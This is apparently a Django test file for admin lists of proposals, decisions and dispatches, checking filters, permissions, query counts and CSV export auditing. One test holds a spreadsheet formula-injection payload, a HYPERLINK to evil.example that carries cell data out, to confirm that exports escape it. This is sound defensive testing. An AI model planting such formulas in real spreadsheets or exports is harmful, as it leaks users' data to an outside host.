"""The lists of proposals, decisions and dispatches: their filters, and their download."""

import csv
import re
from datetime import date, timedelta
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from approvals.figures import exports
from approvals.models import Decision, Proposal
from audit.models import Entry
from tests import world as worlds
from tests.approvals.admin.oversight.test_overview import move_back
from tests.world import World, signed_in

pytestmark = pytest.mark.django_db

PROPOSALS = "/admin/approvals/proposal/"
DECISIONS = "/admin/approvals/decision/"
DISPATCHES = "/admin/approvals/dispatch/"
LISTS = (PROPOSALS, DECISIONS, DISPATCHES)


@pytest.fixture
def world() -> World:
    return worlds.build()


@pytest.fixture
def reader(world: World) -> Client:
    """Somebody who sees all three lists, for their own proposals."""
    return signed_in(worlds.person("reader", worlds.OWNER, permissions=("view_decision", "view_dispatch")))


def auditor() -> Client:
    worlds.sample_roles()
    person = worlds.person("auditor")
    person.groups.add(Group.objects.get(name="Compliance"))
    return signed_in(person)


def text(client: Client, address: str) -> str:
    answer = client.get(address, follow=True)
    assert answer.status_code == 200
    return str(answer.content.decode())


def day(ago: int) -> str:
    return (timezone.localdate() - timedelta(days=ago)).isoformat()


def shown(client: Client, address: str) -> set[str]:
    """Return which of the titles below are in the list."""
    page = text(client, address)
    return {title for title in ("Old one", "New one", "Dear one") if title in page}


@pytest.fixture
def three(world: World) -> None:
    old = world.propose(title="Old one", content={"confidence": 0.3})
    world.approve(old, is_signed=True, comment="Agreed.")
    move_back(old, hours=10 * 24)
    new = world.propose(title="New one", content={"confidence": 0.75})
    world.decide(new, "reject", by=world.other_owner, reason_code="too_risky")
    dear = world.propose("pricing", title="Dear one", content={"confidence": 0.95})
    world.approve(dear, is_signed=True, comment="Agreed.")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (f"proposed_from={day(1)}", {"New one", "Dear one"}),
        (f"proposed_to={day(5)}", {"Old one"}),
        (f"proposed_from={day(11)}&proposed_to={day(9)}", {"Old one"}),
        (f"proposed_from={day(10)}&proposed_to={day(10)}", {"Old one"}),
        (f"proposed_from={day(0)}&proposed_to={day(0)}", {"New one", "Dear one"}),
        ("proposed_from=yesterday", set()),
        ("confidence_from=70", {"New one", "Dear one"}),
        ("confidence_from=70&confidence_to=75", {"New one"}),
        ("confidence_to=30", {"Old one"}),
        ("confidence=90-100", {"Dear one"}),
        ("confidence_from=200", set()),
        ("confidence_from=x", set()),
        ("confidence_from=nan", set()),
        ("surface=pricing", {"Dear one"}),
        ("agent=pacer&tier=signature", {"Old one", "Dear one"}),
        ("reviewer=nobody", set()),
        (f"proposed_from={day(1)}&surface=ads.budget", {"New one"}),
    ],
)
def test_filters_narrow_the_proposals(reader: Client, three: None, query: str, expected: set[str]) -> None:
    assert shown(reader, f"{PROPOSALS}?{query}") == expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (f"decided_from={day(1)}", {"New one", "Dear one"}),
        (f"decided_to={day(1)}", {"Old one"}),
        ("verdict__exact=reject", {"New one"}),
        ("surface=pricing", {"Dear one"}),
        ("tier=single&agent=pacer", {"New one"}),
        ("confidence_to=50", {"Old one"}),
        ("state=rejected", {"New one"}),
    ],
)
def test_filters_narrow_the_decisions(reader: Client, three: None, query: str, expected: set[str]) -> None:
    assert shown(reader, f"{DECISIONS}?{query}") == expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", {"Old one", "Dear one"}),
        ("status__exact=waiting&surface=ads.budget", {"Old one"}),
        ("confidence_from=90", {"Dear one"}),
        (f"made_from={day(0)}", {"Old one", "Dear one"}),
        (f"made_to={day(1)}", set()),
        ("tier=single", set()),
        ("state=shipped", set()),
        ("state=approved", {"Old one", "Dear one"}),
    ],
)
def test_filters_narrow_the_dispatches(reader: Client, three: None, query: str, expected: set[str]) -> None:
    assert shown(reader, f"{DISPATCHES}?{query}") == expected


def test_every_list_knows_who_decided(world: World, reader: Client, three: None) -> None:
    mine, theirs = (f"reviewer={person.pk}" for person in (world.owner, world.other_owner))
    assert shown(reader, f"{PROPOSALS}?{mine}") == {"Old one", "Dear one"}
    assert shown(reader, f"{PROPOSALS}?{theirs}") == {"New one"}
    assert shown(reader, f"{DECISIONS}?{theirs}") == {"New one"}
    assert shown(reader, f"{DISPATCHES}?{mine}") == {"Old one", "Dear one"}
    assert shown(reader, f"{DISPATCHES}?{theirs}") == set()


def test_days_are_those_of_the_reader(world: World, reader: Client, settings: Any) -> None:
    proposal = world.propose(title="New one")
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")
        cursor.execute("UPDATE approvals_proposal SET created_at = '2026-03-01 23:30+00' WHERE id = %s", [proposal.pk])
    assert shown(reader, f"{PROPOSALS}?proposed_from=2026-03-01&proposed_to=2026-03-01") == {"New one"}
    with timezone.override("Europe/Berlin"):
        settings.TIME_ZONE = "Europe/Berlin"
        assert shown(reader, f"{PROPOSALS}?proposed_from=2026-03-01&proposed_to=2026-03-01") == set()
        assert shown(reader, f"{PROPOSALS}?proposed_from=2026-03-02&proposed_to=2026-03-02") == {"New one"}


def test_a_range_that_cannot_be_read_is_told(reader: Client, three: None) -> None:
    assert "These are no dates" in text(reader, f"{PROPOSALS}?proposed_from=x")
    assert "a number from 0 to 100" in text(reader, f"{PROPOSALS}?confidence_to=101")


def test_the_form_of_a_range_keeps_the_other_filters(reader: Client, three: None) -> None:
    page = text(reader, f"{PROPOSALS}?surface=ads.budget&proposed_from={day(1)}&confidence_from=10")
    form = next(form for form in page.split('<form method="get" class="range">') if 'type="date"' in form)
    assert 'name="surface" value="ads.budget"' in form
    assert 'name="confidence_from" value="10"' in form
    assert f'value="{day(1)}"' in page


def test_only_people_of_ones_own_roles_are_offered_as_reviewers(world: World, reader: Client, three: None) -> None:
    lawyer = worlds.person("some-lawyer", "Legal")
    Decision.objects.create(
        proposal=Proposal.objects.first(), revision=Proposal.objects.first().revision, revision_number=1, digest="x",
        verdict="retry", by=lawyer, by_name="some-lawyer", at=timezone.now(),
    )  # fmt: skip
    assert ">some-lawyer</a>" not in text(reader, PROPOSALS)
    assert ">channel-owner</a>" in text(reader, PROPOSALS)
    assert ">some-lawyer</a>" in text(auditor(), PROPOSALS)


@pytest.mark.parametrize(("address", "most"), [(PROPOSALS, 14), (DECISIONS, 16), (DISPATCHES, 16)])
def test_a_list_asks_as_few_questions_for_many_rows_as_for_some(world: World, address: str, most: int) -> None:
    client = auditor()
    text(client, address)  # what Django keeps for the life of the process
    counts = []
    for _ in range(2):
        for number in range(8):
            world.approve(world.propose(title=f"Number {number}"))
        with CaptureQueriesContext(connection) as captured:
            text(client, f"{address}?surface=ads.budget&confidence_from=1")
        counts.append(len(captured))
    assert counts[0] == counts[1]
    assert counts[0] <= most, [query["sql"][:100] for query in captured]


def download(client: Client, address: str, query: str = "", **fields: str) -> Any:
    return client.post(f"{address}export/?{query}", fields or {"format": "csv"}, follow=True)


def rows(answer: Any) -> list[dict[str, str]]:
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(answer.streaming_content).decode()
    assert content.startswith("\ufeff")
    return list(csv.DictReader(StringIO(content.removeprefix("\ufeff"))))


def test_what_is_filtered_is_what_is_downloaded(reader: Client, three: None) -> None:
    found = rows(download(reader, PROPOSALS, "confidence_from=70"))
    assert [row["title"] for row in found] == ["Dear one", "New one"]
    assert found[0]["tier"] == "signature"
    assert found[0]["decisions"] == "channel-owner: Approved"
    assert [row["title"] for row in rows(download(reader, DECISIONS, "verdict__exact=reject"))] == ["New one"]
    assert {row["title"] for row in rows(download(reader, DISPATCHES))} == {"Old one", "Dear one"}


def test_an_export_is_in_the_ledger_with_its_filter_and_its_size(reader: Client, three: None) -> None:
    rows(download(reader, PROPOSALS, "surface=ads.budget&q=one&p=1&o=-3"))
    entry = Entry.objects.get(kind="proposals.exported")
    reader_id = User.objects.get(username="reader").pk
    assert (entry.actor, entry.subject) == (f"user:{reader_id}", f"user:{reader_id}")
    assert entry.data["rows"] == 2
    assert entry.data["filter"]["surface"] == "ads.budget"
    assert "one" not in str(entry.data["filter"].values())
    assert entry.data["filter"]["q_digest"].startswith("sha256:")
    rows(download(reader, DECISIONS))
    rows(download(reader, DISPATCHES))
    assert Entry.objects.filter(kind__in=["decisions.exported", "dispatches.exported"]).count() == 2


def test_nobody_downloads_what_they_may_not_see(world: World, three: None) -> None:
    lawyer = signed_in(worlds.person("lawyer", "Legal", permissions=("view_decision", "view_dispatch")))
    for address in LISTS:
        assert rows(download(lawyer, address)) == []
    nobody = signed_in(worlds.person("nobody"))
    for address in LISTS:
        assert download(nobody, address).status_code == 403
    assert Entry.objects.filter(kind__endswith="exported", data__rows__gt=0).count() == 0


def test_a_download_needs_its_form(reader: Client, three: None) -> None:
    assert reader.get(f"{PROPOSALS}export/").status_code == 405
    assert download(reader, PROPOSALS, "", other="1").status_code == 200
    guarded = Client(enforce_csrf_checks=True)
    guarded.force_login(User.objects.get(username="reader"))
    assert guarded.post(f"{PROPOSALS}export/", {"format": "csv"}).status_code == 403
    assert not Entry.objects.filter(kind="proposals.exported").exists()


def test_a_list_that_is_too_long_is_not_downloaded(
    reader: Client, three: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "MOST_ROWS", 2)
    answer = download(reader, PROPOSALS)
    assert "more than 2 rows" in answer.content.decode()
    assert not Entry.objects.filter(kind="proposals.exported").exists()
    assert len(rows(download(reader, PROPOSALS, "surface=ads.budget"))) == 2


def test_a_download_is_complete_beyond_one_piece(world: World, reader: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "CHUNK", 2)
    titles = [f"Number {number}" for number in range(5)]
    for title in titles:
        world.propose(title=title)
    assert [row["title"] for row in rows(download(reader, PROPOSALS))] == titles[::-1]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        (" =1", "' =1"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-1, "-1"),
        (0.5, "0.5"),
        (True, "yes"),
        (date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_no_cell_is_a_formula(value: Any, written: str) -> None:
    assert exports.cell(value) == written


def test_titles_that_are_formulas_are_text_in_the_file(world: World, reader: Client) -> None:
    title = '=HYPERLINK("https://evil.example/"&A1;"Click, ""me""")'
    world.propose(title=title)
    assert rows(download(reader, PROPOSALS))[0]["title"] == f"'{title}"


def test_the_ranges_of_the_lists_work_by_link(reader: Client, three: None) -> None:
    page = text(reader, PROPOSALS)
    for said in ("Today", "Last 7 days", "Last 30 days", "below 50 %"):
        assert said in page
    assert shown(reader, f"{PROPOSALS}?confidence=0-50") == {"Old one"}


def test_no_signature_is_nothing_to_warn_of_and_times_are_ours(world: World, reader: Client) -> None:
    world.approve(world.propose("pricing"), is_signed=True, comment="Agreed.")
    world.approve(world.propose())
    html = text(reader, DECISIONS)
    assert re.findall(r"field-signature[^>]*>([^<]*)<", html) == ["—", "signed"]
    assert "icon-no" not in html
    assert re.search(r">\d{1,2} [A-Z][a-z]{2} \d{4}, \d\d:\d\d<", html)
